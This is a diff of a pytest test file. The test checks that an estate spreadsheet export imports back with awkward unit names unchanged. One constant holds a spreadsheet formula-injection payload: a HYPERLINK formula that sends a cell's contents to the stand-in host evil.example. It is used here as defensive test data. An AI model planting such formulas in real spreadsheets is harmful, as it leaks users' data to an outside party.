@@ -9,6 +9,7 @@ import pytest
 from openpyxl import load_workbook
 
 from recovery.core.constants import Role
+from recovery.core.scope import TEST_DATA
 from recovery.core.xlsx import workbook_bytes
 from recovery.estate.actions import do_import_estate
 from recovery.estate.importer import export_sheets, read_estate_workbook
@@ -17,8 +18,9 @@ from recovery.estate.tests.test_import import make_workbook
 
 EVIL = '=HYPERLINK("https://evil.example/?leak="&B2,"Open")'
 
-# Every class of awkward text a name may hold (control, bidi and zero-width characters are
-# refused in names by the import, so they are not names a round trip can carry).
+# Every class of awkward text a name may hold (control characters, line breaks included, and
+# bidi and zero-width characters are refused in names by the import engine, so they are not
+# names a round trip can carry).
 AWKWARD_NAMES = {
     "formula": "=1+1",
     "link formula": EVIL,
@@ -35,7 +37,6 @@ AWKWARD_NAMES = {
     "exponent-like": "1e5",
     "date-like": "2020-02-30",
     "boolean-like": "TRUE",
-    "inner line break": "Ostmere\nNorth",
     "longest": "N" * 199 + "=",
 }
 
@@ -47,7 +48,7 @@ def names() -> dict[str, str]:
 @pytest.mark.django_db
 @pytest.mark.parametrize("name", AWKWARD_NAMES.values(), ids=AWKWARD_NAMES.keys())
 def test_the_estate_export_imports_back_unchanged_whatever_the_names_hold(name):
-    do_import_estate(make_workbook(), acting_user=None)
+    do_import_estate(make_workbook(), acting_user=TEST_DATA)
     # One unit of every kind takes the awkward name.
     OrganisationUnit.objects.filter(code__in=["GA", "QRA", "RA", "RA-P1", "RA-P1-O1"]).update(
         name=name
@@ -56,7 +57,7 @@ def test_the_estate_export_imports_back_unchanged_whatever_the_names_hold(name):
 
     data = workbook_bytes(export_sheets())
     read_back = {unit.code: unit.name for unit in read_estate_workbook(data).units}
-    summary = do_import_estate(data, acting_user=None)
+    summary = do_import_estate(data, acting_user=TEST_DATA)
 
     assert read_back["QRA"] == name and read_back["RA-P1-O1"] == name
     assert not summary.changed_anything
